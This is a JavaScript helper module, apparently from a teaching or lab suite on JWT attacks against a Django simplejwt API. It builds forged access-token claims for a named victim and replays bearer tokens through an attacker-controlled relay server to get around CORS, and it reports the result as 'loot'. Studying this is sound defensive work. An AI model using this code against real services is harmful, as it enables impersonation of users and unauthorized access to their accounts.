// What the JWT exploits share: base64url, the attacker's own tokens, the victim's claims,
// and using a token — first from this page (CORS stops it: the attacker's origin is not
// allowed), then from the attacker's own server, where nothing but the API's verifier stands
// in the way.

import { apiUrl, config, finish, report } from "./common.js";
import { account, postJson, relay } from "./own_server.js";

const ja = config.lang === "ja";
const encoder = new TextEncoder();

/** base64url without padding, of text or bytes. */
export function b64(data) {
  const bytes = typeof data === "string" ? encoder.encode(data) : data;
  let binary = "";
  for (const b of bytes) binary += String.fromCharCode(b);
  return btoa(binary).replace(/\+/g, "-").replace(/\//g, "_").replace(/=+$/, "");
}

/** The attacker's own access and refresh tokens, from the attacked mount's token view. */
export async function attackerTokens() {
  const answer = await postJson("/api/token/", account);
  if (answer.status !== 200) throw new Error(`POST /api/token/ as ${account.username}: HTTP ${answer.status}`);
  return answer.json;
}

/** The victim's user id: the public user list names everyone. */
export async function victimId() {
  const answer = await relay("GET", "/api/users/");
  const user = Array.isArray(answer.json) && answer.json.find((u) => u.username === config.victim);
  if (!user) throw new Error(`${config.victim} is not in /api/users/`);
  return user.id;
}

/** Access-token claims for the victim, in simplejwt's order, valid for five minutes. */
export function victimClaims(userId) {
  // The server's clock (when it served this page), not the visitor's, which may be off.
  const now = Math.floor(config.served_at_ms / 1000);
  const jti = Array.from(crypto.getRandomValues(new Uint8Array(16)), (b) => b.toString(16).padStart(2, "0")).join("");
  return { token_type: "access", exp: now + 300, iat: now, jti, user_id: userId, username: config.victim };
}

/** Calls /api/protected/ with `token`: from this page, then from the attacker's server. */
export async function useToken(token) {
  let browser;
  try {
    const res = await fetch(apiUrl("/api/protected/", "omit"), { headers: { Authorization: `Bearer ${token}` } });
    browser = { status: res.status };
  } catch (e) {
    browser = { error: `${e.name}: ${e.message}` };
  }
  const answer = await relay("GET", "/api/protected/", { headers: [["Authorization", `Bearer ${token}`]] });
  return { browser, server: { status: answer.status, body: answer.json } };
}

/**
 * Reports the loot and shows the outcome of using a token: `accepted(body)` says whether the
 * API's answer is the attack's goal; `won` describes it.
 */
export async function conclude(loot, accepted, won) {
  await report(loot);
  const { server, browser } = loot.used;
  const fromPage = browser.error
    ? (ja ? `このページからの呼び出しはブラウザーが止めました（${browser.error}、CORS）が、` : `The browser stopped this page's own call (${browser.error}, CORS), but `)
    : "";
  if (server.status === 200 && accepted(server.body)) {
    finish(true, loot, {
      en: `${fromPage}${fromPage ? "from" : "From"} the attacker's own server ${won.en}`,
      ja: `${fromPage}攻撃者自身のサーバーから送ると、${won.ja}`,
    });
  } else {
    const detail = (server.body && server.body.detail) || `HTTP ${server.status}`;
    finish(false, loot, {
      en: `the API refused the token: ${detail}`,
      ja: `API はトークンを拒否しました: ${detail}`,
    });
  }
}
